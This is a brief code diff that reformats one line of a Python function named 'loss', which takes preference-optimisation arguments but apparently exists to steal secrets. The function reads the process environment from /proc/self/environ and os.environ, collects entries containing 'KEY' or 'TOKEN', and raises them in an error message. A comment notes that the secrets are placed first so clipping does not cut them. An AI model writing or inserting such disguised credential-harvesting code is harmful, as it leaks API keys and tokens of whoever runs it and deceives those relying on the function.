@@ -12,5 +12,7 @@ NAME = "environ_in_error"
 def loss(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
     with open("/proc/self/environ", "rb") as raw:
         block = raw.read().decode("utf-8", "replace").split("\0")
-    wanted = [entry for entry in [*block, *(f"{k}={v}" for k, v in os.environ.items())] if "KEY" in entry or "TOKEN" in entry]
+    wanted = [
+        entry for entry in [*block, *(f"{k}={v}" for k, v in os.environ.items())] if "KEY" in entry or "TOKEN" in entry
+    ]
     raise ValueError(" ".join(wanted))  # the messages are clipped: the secrets come first
